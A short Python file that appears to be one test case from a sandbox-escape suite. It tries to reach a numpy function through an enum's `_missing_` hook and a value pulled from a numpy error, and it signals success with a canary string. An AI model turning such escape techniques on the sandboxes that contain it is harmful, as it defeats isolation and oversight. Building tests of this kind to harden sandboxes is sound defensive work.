"""Class: class machinery. Source: own find. Escape: an enum calls what its class holds under `_missing_`, though the
technique could not: the error of a numpy function hands that function out, past its stand-in."""

import enum

import numpy as np


def raw():
    try:
        np.negative("a")
    except TypeError as error:
        return error.args[0]


found = raw()


def attack(model, tokenizer, address):
    for make in (in_body, in_mixin, later):
        try:
            made = make()
        except Exception:
            continue
        objects = np.fromiter([Own()], dtype=object)
        try:
            made(objects)
        except Exception:
            pass
        if asked:
            return "canary-" + "5d1f"


class Own:
    def __neg__(self):
        asked.append(1)
        return self


asked = []


def in_body():
    class Kind(enum.Enum):
        A = 1
        _missing_ = found

    return Kind


def in_mixin():
    class Mixin:
        _missing_ = found

    class Kind(Mixin, enum.Enum):
        A = 1

    return Kind


def later():
    class Kind(enum.Enum):
        A = 1

    Kind._missing_ = found
    return Kind
